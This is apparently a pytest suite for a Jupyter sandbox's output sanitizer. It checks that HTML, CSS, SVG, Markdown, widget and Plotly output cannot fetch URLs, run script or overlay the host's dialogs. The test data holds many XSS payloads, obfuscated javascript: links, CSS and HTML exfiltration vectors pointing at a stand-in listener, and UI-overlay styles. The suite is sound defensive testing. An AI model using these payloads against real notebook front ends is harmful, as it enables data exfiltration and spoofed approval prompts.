"""Cleaning what the kernel shows (sandbox_kernel/sanitize.py), on real signed messages.

The attacks are issue #22's, from a kernel with network ``none``: every way a page can be
made to fetch a URL (which the analyst's browser would send, with the Jupyter server's
cookies), and kernel styles that restyle the host's own questions. What the browser then
does with the output is tested in test_lab_browser.py and test_lab_exfil.py.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

import pytest
from jupyter_client.session import Session

from sandbox_kernel.channels.sanitize import (
    REMOVED_NOTE,
    OutputSanitizer,
    clean_bundle,
    clean_html,
    clean_markdown,
    clean_style,
    clean_widget_state,
)
from sandbox_kernel.channels.wire import Signatures, find_delimiter

KEY = b"k" * 32
#: Where the attacker's listener was: the Jupyter server's host, another port.
LISTENER = "127.0.0.1:9999"
URL = f"http://{LISTENER}/x?d=contents-of-a-workspace-file"
DATA_PNG = "data:image/png;base64,iVBORw0KGgo="

#: pandas 3.1's own output (from the kernel image): a DataFrame, and two Stylers.
DATAFRAME = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe tbody tr th {
        vertical-align: top;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>revenue</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>1</td>
    </tr>
  </tbody>
</table>
</div>"""
HIGHLIGHT_MAX = """<style type="text/css">
#T_abc_row1_col0 {
  background-color: red;
}
</style>
<table id="T_abc">
  <thead>
    <tr>
      <th class="blank level0" >&nbsp;</th>
      <th id="T_abc_level0_col0" class="col_heading level0 col0" >revenue</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th id="T_abc_level0_row0" class="row_heading level0 row0" >0</th>
      <td id="T_abc_row0_col0" class="data row0 col0" >1</td>
    </tr>
    <tr>
      <th id="T_abc_level0_row1" class="row_heading level0 row1" >1</th>
      <td id="T_abc_row1_col0" class="data row1 col0" >5</td>
    </tr>
  </tbody>
</table>
"""
BAR_AND_GRADIENT = """<style type="text/css">
#T_bar_row0_col0 {
  width: 10em;
  background: linear-gradient(90deg, transparent 40.0%, #d65f5f 40.0%, #d65f5f 60.0%, transparent 60.0%);
  background-color: #4295c3;
  color: #f1f1f1;
}
</style>
<table id="T_bar">
  <tbody>
    <tr>
      <th id="T_bar_level0_row0" class="row_heading level0 row0" >0</th>
      <td id="T_bar_row0_col0" class="data row0 col0" >1</td>
    </tr>
  </tbody>
</table>
"""
#: The start and end of matplotlib 3.11's SVG of a line plot (the kernel image's).
MATPLOTLIB_SVG = """<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="460.8pt" height="345.6pt" viewBox="0 0 460.8 345.6" \
xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata>
  <rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" \
xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
   <cc:Work>
    <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/>
    <dc:title>Matplotlib v3.11.2, https://matplotlib.org/</dc:title>
   </cc:Work>
  </rdf:RDF>
 </metadata>
 <defs>
  <style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style>
 </defs>
 <g id="figure_1">
  <path d="M 0 0 L 0 3.5" id="mbeef56bc35" style="stroke: #000000; stroke-width: 0.8"/>
  <use xlink:href="#mbeef56bc35" x="73.832727" y="307.584" style="stroke: #000000; stroke-width: 0.8"/>
  <path d="M 73.832727 295.488 L 236.160000 53.568" clip-path="url(#p9456ec589c)" style="fill: none"/>
 </g>
 <defs>
  <clipPath id="p9456ec589c">
   <rect x="57.6" y="41.472" width="357.12" height="266.112"/>
  </clipPath>
 </defs>
</svg>
"""


def frames_of(msg_type: str, content: dict[str, Any], session: Session) -> list[bytes]:
    msg = session.msg(msg_type, content)
    return list(session.serialize(msg, ident=[b"kernel.iopub"]))


def content_of(frames: Sequence[Any] | None, session: Session) -> dict[str, Any]:
    """The content of a message the sanitizer passed (not dropped), its signature checked."""
    assert frames is not None, "dropped"
    frames = list(frames)
    index = find_delimiter(frames)
    assert index is not None
    assert Signatures(KEY).valid(frames, index), "a cleaned message is signed again"
    return dict(session.deserialize(frames[index + 1 :], content=True)["content"])


def note(*what: str) -> str:
    return REMOVED_NOTE.format(what=", ".join(what))


@pytest.fixture
def session() -> Session:
    return Session(key=KEY)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>fetch('/api/terminals', {method: 'POST'})</script>",
        "<img src=x onerror=\"fetch('/api/terminals')\">",
        "<svg onload=alert(1)></svg>",
        "<iframe src='/api/terminals'></iframe>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<object data='x.swf'></object>",
        "<form action='/api/terminals' method='post'><button>go</button></form>",
        "<style></style><script>alert(1)</script>",
        "<div style='x' onmouseover='alert(1)'>hover</div>",
    ],
)
def test_html_keeps_nothing_that_runs(attack: str) -> None:
    cleaned = clean_html(attack)[0].lower()
    for needle in (
        "<script",
        "onerror",
        "onload",
        "onmouseover",
        "<iframe",
        "javascript",
        "<object",
        "<form",
    ):
        assert needle not in cleaned, cleaned


#: Every way issue #22's attacker (and then we) found for HTML to make a page fetch.
FETCHING_HTML = {
    "img": f'<img src="{URL}">',
    "img, scheme-relative": f'<img src="//{LISTENER}/x">',
    "img, relative": '<img src="/files/secret.txt?d=x">',
    "img, spaces in the scheme": f'<img src=" h\ttt p://{LISTENER}/x">',
    "srcset": f'<img srcset="{URL} 1x">',
    "picture": f'<picture><source srcset="{URL}"><img alt="p"></picture>',
    "style=": f'<div style="background-image: url({URL})">x</div>',
    "style=, escaped": f'<div style="background-image: u\\72l({URL})">x</div>',
    "style=, quoted": f"<div style=\"background: url('{URL}')\">x</div>",
    "style=, in a comment": f'<div style="color: red /* ; */; background: url({URL})">x</div>',
    "image-set": f'<div style="background-image: image-set(url({URL}) 1x)">x</div>',
    "image-set, bare string": f'<div style="background-image: image-set(&quot;{URL}&quot; 1x)">x</div>',
    "list-style": f'<ul style="list-style-image: url({URL})"><li>x</li></ul>',
    "border-image": f'<div style="border-image: url({URL}) 30">x</div>',
    "cursor": f'<div style="cursor: url({URL}), auto">x</div>',
    "mask": f'<div style="mask-image: url({URL})">x</div>',
    "content": f'<div style="content: url({URL})">x</div>',
    "<style>": f"<style>.a {{ background: url({URL}) }}</style><div class='a'>x</div>",
    "@import": f"<style>@import url({URL});</style>",
    "@import, bare string": f'<style>@import "{URL}";</style>',
    "@font-face": f"<style>@font-face {{ font-family: f; src: url({URL}); }} .f {{ font-family: f }}</style>",
    "id rule with url": f"<style>#c {{ background: url({URL}) }}</style><td id='c'>x</td>",
    "video poster": f'<video poster="{URL}"></video>',
    "video src": f'<video src="{URL}" autoplay></video>',
    "audio": f'<audio src="{URL}" autoplay></audio>',
    "source": f'<video><source src="{URL}"></video>',
    "track": f'<video><track src="{URL}"></video>',
    "object": f'<object data="{URL}"></object>',
    "embed": f'<embed src="{URL}">',
    "iframe": f'<iframe src="{URL}"></iframe>',
    "link stylesheet": f'<link rel="stylesheet" href="{URL}">',
    "link prefetch": f'<link rel="prefetch" href="{URL}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={URL}">',
    "base": f'<base href="{URL}"><img src="x.png">',
    "a ping": f'<a href="#x" ping="{URL}">x</a>',
    "form action": f'<form action="{URL}"><input name="d" value="x"></form>',
    "input image": f'<input type="image" src="{URL}">',
    "table background": f'<table background="{URL}"><tr><td background="{URL}">x</td></tr></table>',
    "body background": f'<body background="{URL}">x</body>',
    "inline svg image": f'<svg><image href="{URL}"/></svg>',
    "inline svg use": f'<svg><use href="{URL}#a"/></svg>',
    "inline svg feImage": f'<svg><filter id="f"><feImage href="{URL}"/></filter></svg>',
    "math": f'<math><mi style="background: url({URL})">x</mi></math>',
}


@pytest.mark.parametrize("attack", FETCHING_HTML.values(), ids=FETCHING_HTML.keys())
def test_html_makes_the_browser_fetch_nothing(attack: str) -> None:
    cleaned, _ = clean_html(attack)
    assert LISTENER not in cleaned, cleaned
    assert "secret" not in cleaned, cleaned
    assert not re.search(r"url|image-set|src=|srcset|poster|data=|href=\"(?!#)", cleaned, re.IGNORECASE), (
        cleaned
    )


def test_an_external_image_is_removed_with_a_note_and_data_images_stay() -> None:
    cleaned, removed = clean_bundle(
        {
            "text/plain": "<IPython.core.display.HTML object>",
            "text/html": f'<img src="{URL}" alt="chart"><img src="{DATA_PNG}" alt="plot">',
        }
    )
    assert removed == ["external image"]
    assert cleaned == {
        "text/plain": f"<IPython.core.display.HTML object>\n{note('external image')}",
        "text/html": f'<img alt="chart"><img src="{DATA_PNG}" alt="plot">'
        f"<p><small>{note('external image')}</small></p>",
    }


def test_links_stay_as_links() -> None:
    """A link is fetched only when the analyst follows it (see the README's "does not
    stop"); a data: link leads nowhere."""
    cleaned, removed = clean_html(
        '<a href="https://pandas.pydata.org">doc</a><a href="data:text/plain,x">d</a>'
    )
    link = 'rel="noopener noreferrer"'
    assert cleaned == f'<a href="https://pandas.pydata.org" {link}>doc</a><a {link}>d</a>'
    assert removed == []


def test_pandas_tables_and_styler_colours_keep_their_look() -> None:
    """The Styler's rules become its cells' inline styles; the DataFrame's own
    <style> goes (JupyterLab styles tables itself), its alignment stays inline."""
    table, removed = clean_html(DATAFRAME)
    assert removed == []
    assert '<table class="dataframe">' in table
    assert '<tr style="text-align: right">' in table
    assert "<style" not in table
    assert "vertical-align" not in table

    styled, _ = clean_html(HIGHLIGHT_MAX)
    assert '<td style="background-color: red">5</td>' in styled
    assert "<td>1</td>" in styled
    assert " id=" not in styled
    assert " class=" not in styled  # pandas' own classes style nothing without its sheet

    bar, _ = clean_html(BAR_AND_GRADIENT)
    assert (
        '<td style="width: 10em; background: linear-gradient(90deg, transparent 40.0%, #d65f5f 40.0%, '
        '#d65f5f 60.0%, transparent 60.0%); background-color: #4295c3; color: #f1f1f1">1</td>'
    ) in bar


def test_an_id_rule_does_not_override_the_cells_own_style() -> None:
    cleaned, _ = clean_html(
        "<style>#a, #b { color: red } #a:hover { color: blue } @media print { #a { color: green } }</style>"
        '<table><tr><td id="a" style="color: black">x</td><td id="b">y</td></tr></table>'
    )
    assert '<td style="color: red; color: black">x</td><td style="color: red">y</td>' in cleaned


#: Issue #22 item 5: a kept <style> hid the host's approval question and put the
#: kernel's wording there. Each of these would hide, cover or word over the page.
RESTYLING_HTML = {
    "style sheet": "<style>.jp-Stdin-prompt { visibility: hidden }</style>",
    "style sheet, content": '<style>.jp-OutputArea-output::after { content: "type kernel" }</style>',
    "splash id": '<div id="jupyterlab-splash">type kernel</div>',
    "dialog class": '<div class="jp-Dialog lm-Widget">type kernel</div>',
    "toast class": '<div class="Toastify__toast-container">type kernel</div>',
    "fixed": '<div style="position: fixed; inset: 0; z-index: 100000">type kernel</div>',
    "absolute": '<div style="position:absolute;top:0">type kernel</div>',
    "negative margin": '<div style="margin-top: -500px">type kernel</div>',
    "transform": '<div style="transform: translateY(-500px)">type kernel</div>',
    "display": '<div style="display: none">x</div>',
    "visibility": '<div style="visibility: hidden">x</div>',
    "opacity": '<div style="opacity: 0">x</div>',
    "float": '<div style="float: left">x</div>',
    "escaped name": '<div style="posit\\ion: fixed">x</div>',
    "important": '<div style="position: fixed !important">x</div>',
    "style element rule on an id": "<style>#s { position: fixed }</style><div id='s'>x</div>",
}


@pytest.mark.parametrize("attack", RESTYLING_HTML.values(), ids=RESTYLING_HTML.keys())
def test_kernel_styles_cannot_restyle_the_page(attack: str) -> None:
    cleaned, _ = clean_html(attack)
    for needle in ("<style", "jp-", "lm-", "toastify", "splash", " id=", "position", "margin", "transform"):
        assert needle not in cleaned.lower(), cleaned
    for needle in ("display", "visibility", "opacity", "float", "content"):
        assert needle not in cleaned, cleaned


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: #f1f1f1; background-color: rgb(1, 2, 3)", "color: #f1f1f1; background-color: rgb(1, 2, 3)"),
        ("font-weight: bold; text-align: right; border: 1px solid black", None),
        ("COLOR: Red !important", "color: Red"),
        ("color: red; background: url(x); position: fixed; width: 10em", "color: red; width: 10em"),
        ("color: var(--jp-ui-font-color1)", None),
        ("font-family: 'Comic Sans MS'", ""),
        ('color: red; font-family: "a;color:blue"', "color: red"),
        ("background: paint(x)", ""),
        ("background: -webkit-image-set(x 1x)", ""),
        ("background: src(x)", ""),
        ("border-image-source: linear-gradient(red, blue)", ""),
    ],
)
def test_inline_styles_keep_only_what_cannot_fetch_or_move(style: str, kept: str | None) -> None:
    assert clean_style(style) == (style if kept is None else kept)


def test_a_bundle_keeps_safe_types_and_drops_code() -> None:
    data = {
        "text/plain": "<Figure>",
        "image/png": "iVBORw0KGgo=",
        "image/svg+xml": MATPLOTLIB_SVG,
        "application/javascript": "fetch('/api/terminals')",
        "application/vnd.bokehjs_exec.v0+json": "",
        "application/vnd.vegalite.v5+json": {"data": {"url": "/api/contents"}},
        "text/html": "<b>bold</b><script>x()</script>",
        "text/markdown": "**fine** [doc](https://example.com)",
        "text/latex": "$x^2$",
    }
    cleaned, removed = clean_bundle(data)
    assert removed == [
        "application/javascript",
        "application/vnd.bokehjs_exec.v0+json",
        "application/vnd.vegalite.v5+json",
        "script",
    ]
    said = note(*removed)
    assert cleaned == {
        "text/plain": f"<Figure>\n{said}",
        "image/png": "iVBORw0KGgo=",
        "image/svg+xml": MATPLOTLIB_SVG,
        "text/html": f"<b>bold</b><p><small>{said}</small></p>",
        "text/markdown": "**fine** [doc](https://example.com)\n\n"
        + said.replace("[", "\\[").replace("]", "\\]"),
        "text/latex": "$x^2$",
    }


def test_markdown_with_a_less_than_sign_stays_as_it_is() -> None:
    """Issue #23 item 4: ``Markdown("... p < 0.05")`` showed ``<IPython.core.display.
    Markdown object>``."""
    data = {
        "text/plain": "<IPython.core.display.Markdown object>",
        "text/markdown": "**p < 0.05**, x <= 3, a<5",
    }
    assert clean_bundle(data) == (data, [])


@pytest.mark.parametrize(
    ("markdown", "shown", "removed"),
    [
        (f"an image ![x]({URL})", f"an image !\\[x]({URL})", "image in Markdown (shown as text)"),
        (f"![x][r]\n\n[r]: {URL}", f"!\\[x][r]\n\n[r]: {URL}", "image in Markdown (shown as text)"),
        (f'<img src="{URL}">', f'&lt;img src="{URL}">', "HTML in Markdown (shown as text)"),
        ("a <b>bold</b> <!-- x --> <?x?> </p>", "a &lt;b>bold&lt;/b> &lt;!-- x --> &lt;?x?> &lt;/p>", None),
        (
            '```mermaid\n%%{init: {"themeCSS": ".node rect { background: url('
            + URL
            + ') }"}}%%\ngraph TD\n```',
            '```text\n%%{init: {"themeCSS": ".node rect { background: url(' + URL + ') }"}}%%\ngraph TD\n```',
            "Mermaid diagram (shown as its source)",
        ),
        (
            "> ~~~~ {.MerMaid}\n> graph TD\n> ~~~~",
            "> ~~~~text\n> graph TD\n> ~~~~",
            "Mermaid diagram (shown as its source)",
        ),
        ("```&#109;ermaid\ngraph TD\n```", "```text\ngraph TD\n```", "Mermaid diagram (shown as its source)"),
    ],
)
def test_markdown_that_would_fetch_or_hold_html_is_shown_as_text(
    markdown: str, shown: str, removed: str | None
) -> None:
    """Made text whatever a Markdown parser makes of it: no ``<`` starts a tag, no ``![``
    an image, no fence a Mermaid diagram (whose ``%%{init}%%`` CSS fetched in JupyterLab)."""
    said = removed or "HTML in Markdown (shown as text)"
    assert clean_markdown(markdown) == (shown, [said])
    cleaned, _ = clean_bundle({"text/markdown": markdown})
    assert cleaned["text/markdown"].startswith(shown)
    assert cleaned["text/plain"] == note(said)


@pytest.mark.parametrize(
    ("mime", "value"),
    [
        ("text/markdown", "[click](javascript:alert(1))"),
        ("text/markdown", "[click](JaVa\nScRiPt:alert(1))"),
        ("text/markdown", "[click](&#106;avascript:alert(1))"),
        ("text/markdown", "[click](javascript&colon;alert(1))"),
        ("text/markdown", "[click](&amp;#106;avascript:alert(1))"),
        ("text/latex", r"\href{javascript:alert(1)}{x}"),
    ],
)
def test_markdown_or_latex_that_could_run_is_dropped(mime: str, value: str) -> None:
    cleaned, removed = clean_bundle({"text/plain": "x", mime: value})
    assert (cleaned, removed) == ({"text/plain": f"x\n{note(mime)}"}, [mime])


def test_markdown_with_a_character_reference_that_runs_nothing_stays() -> None:
    assert clean_bundle({"text/markdown": "it&#8217;s **fine**"}) == (
        {"text/markdown": "it&#8217;s **fine**"},
        [],
    )


@pytest.mark.parametrize(
    "svg",
    [
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{URL}"/></svg>',
        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href = "{URL}#a"/></svg>',
        f'<svg><image href="&#104;ttp://{LISTENER}/x"/></svg>',
        f"<svg><style>@import url({URL});</style></svg>",
        f"<svg><style>rect {{ fill: url({URL}#p) }}</style></svg>",
        f'<svg><rect style="fill: u\\72l({URL})"/></svg>',
        f'<svg><rect fill="u&#114;l({URL})"/></svg>',
        f'<!DOCTYPE svg [<!ENTITY u "url">]><svg><rect fill="&u;({URL})"/></svg>',
        f'<svg><feImage href="{URL}"/></svg>',
        "<svg onload='alert(1)'/>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><foreignObject><img src=x></foreignObject></svg>",
        "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
    ],
)
def test_an_svg_with_external_references_or_script_is_dropped(svg: str) -> None:
    """JupyterLab shows SVG in an <img> (which loads nothing), but the saved notebook's
    HTML export and other front ends put it in the page."""
    cleaned, removed = clean_bundle({"text/plain": "<Figure>", "image/svg+xml": svg})
    assert removed == ["SVG image with external references or script"]
    assert "image/svg+xml" not in cleaned


def test_plotly_that_names_a_network_url_is_dropped() -> None:
    figure = {
        "data": [{"y": [1, 3, 2], "type": "scatter", "name": "revenue: Q1"}],
        "layout": {"title": "a // b"},
    }
    assert clean_bundle({"application/vnd.plotly.v1+json": figure}) == (
        {"application/vnd.plotly.v1+json": figure},
        [],
    )
    for layout in (
        {"images": [{"source": URL}]},
        {"images": [{"source": f"//{LISTENER}/x"}]},
        {"images": [{"source": f"https:{LISTENER}/x"}]},
        {"mapbox": {"style": URL}},
    ):
        cleaned, removed = clean_bundle({"application/vnd.plotly.v1+json": {"data": [], "layout": layout}})
        assert removed == ["application/vnd.plotly.v1+json that loads from the network"], layout
        assert list(cleaned) == ["text/plain"]
    cleaned, _ = clean_bundle({"application/vnd.plotly.v1+json": {"config": {"topojsonURL": URL}}})
    assert list(cleaned) == ["text/plain"]


def test_a_bundle_of_nothing_safe_says_what_was_removed() -> None:
    cleaned, _ = clean_bundle({"application/javascript": "alert(1)"})
    assert cleaned == {"text/plain": note("application/javascript")}


def test_displays_are_cleaned_and_signed_again(session: Session) -> None:
    sanitizer = OutputSanitizer(session)
    for msg_type in ("display_data", "execute_result", "update_display_data"):
        frames = frames_of(
            msg_type,
            {"data": {"text/plain": "x", "text/html": f'<img src="{URL}">'}, "metadata": {}},
            session,
        )
        cleaned = sanitizer.clean("iopub", frames)
        assert content_of(cleaned, session)["data"] == {
            "text/plain": f"x\n{note('external image')}",
            "text/html": f"<img><p><small>{note('external image')}</small></p>",
        }, msg_type


def test_messages_needing_nothing_pass_untouched(session: Session) -> None:
    sanitizer = OutputSanitizer(session)
    cases: list[tuple[str, dict[str, Any]]] = [
        ("display_data", {"data": {"text/plain": "x", "image/png": "iVBOR"}, "metadata": {}}),
        ("display_data", {"data": {"text/markdown": "p < 0.05"}, "metadata": {}}),
        ("stream", {"name": "stdout", "text": "<script>alert(1)</script>"}),  # shown as text
        ("status", {"execution_state": "idle"}),
    ]
    for msg_type, content in cases:
        frames = frames_of(msg_type, content, session)
        assert sanitizer.clean("iopub", frames) is frames
    assert sanitizer.cleaned == {}


def test_help_and_pager_bundles_on_shell_are_cleaned(session: Session) -> None:
    sanitizer = OutputSanitizer(session)
    inspect = frames_of(
        "inspect_reply", {"status": "ok", "found": True, "data": {"text/html": "<script>x</script>"}}, session
    )
    assert content_of(sanitizer.clean("shell", inspect), session)["data"] == {
        "text/html": f"<p><small>{note('script')}</small></p>",
        "text/plain": note("script"),
    }
    payload = {
        "source": "page",
        "data": {"text/plain": "p", "text/html": "<img src=x onerror=y>"},
        "start": 0,
    }
    reply = frames_of("execute_reply", {"status": "ok", "payload": [payload]}, session)
    assert content_of(sanitizer.clean("shell", reply), session)["payload"][0]["data"] == {
        "text/plain": f"p\n{note('external image')}",
        "text/html": f"<img><p><small>{note('external image')}</small></p>",
    }


class Widgets:
    """Widget messages as ipywidgets 8 sends them, through one sanitizer."""

    def __init__(self, session: Session) -> None:
        self.session = session
        self.sanitizer = OutputSanitizer(session)

    def send(self, msg_type: str, comm_id: str, data: dict[str, Any]) -> dict[str, Any]:
        content: dict[str, Any] = {"comm_id": comm_id, "data": data}
        if msg_type == "comm_open":
            content["target_name"] = "jupyter.widget"
        cleaned = self.sanitizer.clean("iopub", frames_of(msg_type, content, self.session))
        return dict(content_of(cleaned, self.session)["data"])

    def open(self, comm_id: str, state: dict[str, Any]) -> dict[str, Any]:
        return dict(self.send("comm_open", comm_id, {"state": state, "buffer_paths": []})["state"])

    def update(self, comm_id: str, state: dict[str, Any]) -> dict[str, Any]:
        return dict(
            self.send("comm_msg", comm_id, {"method": "update", "state": state, "buffer_paths": []})["state"]
        )


def test_widgets_cannot_carry_html_that_runs(session: Session) -> None:
    """ipywidgets' HTML widget puts its value into the page as it is; any widget may ask
    for an HTML description; an Output widget's state holds outputs."""
    widgets = Widgets(session)
    opened = widgets.open("c1", {"_model_name": "HTMLModel", "value": "<img src=x onerror=alert(1)>"})
    assert opened["value"] == f"<img><p><small>{note('external image')}</small></p>"
    # later updates of that widget, by comm id alone
    assert widgets.update("c1", {"value": "<b>ok</b>"})["value"] == "<b>ok</b>"
    # a Text widget's value is text, whatever it looks like
    widgets.open("c2", {"_model_name": "TextModel", "value": "a<b"})
    assert widgets.update("c2", {"value": "<script>x</script>"})["value"] == "<script>x</script>"
    assert widgets.update("c2", {"description_allow_html": True})["description_allow_html"] is False
    widgets.open("c3", {"_model_name": "OutputModel", "outputs": []})
    outputs = widgets.update(
        "c3",
        {
            "outputs": [
                {"output_type": "display_data", "data": {"application/javascript": "x"}, "metadata": {}}
            ]
        },
    )["outputs"]
    assert outputs[0]["data"] == {"text/plain": note("application/javascript")}


def test_widgets_make_the_browser_fetch_nothing(session: Session) -> None:
    """Issue #22: ``ipywidgets.Image(value=url, format='url')`` and an HTML widget's image
    reached the listener; so did an ``HTMLStyle(background='url(...)')``."""
    widgets = Widgets(session)
    for model, kept in (("ImageModel", "png"), ("VideoModel", "mp4"), ("AudioModel", "mp3")):
        assert widgets.open(model, {"_model_name": model, "format": "url"})["format"] == kept
        assert widgets.update(model, {"format": "url"})["format"] == kept
        assert widgets.update(model, {"format": "jpeg"})["format"] == "jpeg"
    assert widgets.open("h", {"_model_name": "HTMLModel", "value": f'<img src="{URL}">'})["value"] == (
        f"<img><p><small>{note('external image')}</small></p>"
    )
    style = widgets.open(
        "s",
        {
            "_model_name": "HTMLStyleModel",
            "background": f"url({URL})",
            "text_color": "red",
            "font_size": "u\\72l(x)",
            "description_width": "calc(100% - 10px)",
        },
    )
    assert (style["background"], style["text_color"], style["font_size"]) == (None, "red", None)
    assert style["description_width"] == "calc(100% - 10px)"
    assert widgets.update("s", {"background": f"image-set('{URL}' 1x)"})["background"] is None


def test_widgets_cannot_restyle_the_page(session: Session) -> None:
    """A widget's classes and layout are the kernel's CSS too: ``add_class('jp-Dialog')``
    or a negative margin would place its text over the host's question."""
    widgets = Widgets(session)
    label = widgets.open(
        "l", {"_model_name": "LabelModel", "_dom_classes": ["jp-Dialog", "alert", "lm-Widget"]}
    )
    assert label["_dom_classes"] == ["alert"]
    layout = widgets.open(
        "y",
        {"_model_name": "LayoutModel", "margin": "-400px 0 0 0", "width": "50%", "top": "calc(0px - 9em)"},
    )
    assert (layout["margin"], layout["width"], layout["top"]) == (None, "50%", None)
    assert widgets.update("y", {"margin": "0 0 4px 0"})["margin"] == "0 0 4px 0"


def test_the_widget_states_a_page_loads_are_cleaned(session: Session) -> None:
    """A page that opens a notebook asks the kernel for every widget's state at once
    (``request_states``); the kernel's ``update_states`` answer is cleaned like the rest,
    and teaches the sanitizer each widget's model."""
    widgets = Widgets(session)
    states = {
        "w1": {
            "model_name": "HTMLModel",
            "state": {"_model_name": "HTMLModel", "value": "<script>x</script>ok"},
        },
        "w2": {"model_name": "ImageModel", "state": {"_model_name": "ImageModel", "format": "url"}},
        "w3": {"model_name": "TextModel", "state": {"_model_name": "TextModel", "value": "a<b"}},
    }
    data = widgets.send(
        "comm_msg",
        "control",
        {"method": "update_states", "states": states, "buffer_paths": [["w2", "state", "value"]]},
    )
    assert data["states"]["w1"]["state"]["value"] == f"ok<p><small>{note('script')}</small></p>"
    assert data["states"]["w2"]["state"]["format"] == "png"
    assert data["states"]["w3"]["state"]["value"] == "a<b"
    assert data["buffer_paths"] == [["w2", "state", "value"]]
    assert widgets.update("w1", {"value": "<img src=x>"})["value"].startswith("<img>")


def test_a_widget_the_sanitizer_does_not_know_is_cleaned_as_any_could_need() -> None:
    """One forgotten (more than 10,000 widgets since) or never announced."""
    state = {"value": f'<img src="{URL}">', "format": "url", "background": f"url({URL})"}
    assert clean_widget_state("", state)
    assert state == {
        "value": f"<img><p><small>{note('external image')}</small></p>",
        "format": "png",
        "background": None,
    }


def test_a_message_that_cannot_be_read_is_dropped_not_passed(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    sanitizer = OutputSanitizer(session)
    frames = frames_of("display_data", {"data": {"text/html": "<b>x</b>"}, "metadata": {}}, session)

    def broken(*args: Any, **kwargs: Any) -> str:
        raise ValueError("unforeseen")

    monkeypatch.setattr("sandbox_kernel.channels.sanitize.nh3.clean", broken)
    assert sanitizer.clean("iopub", frames) is None
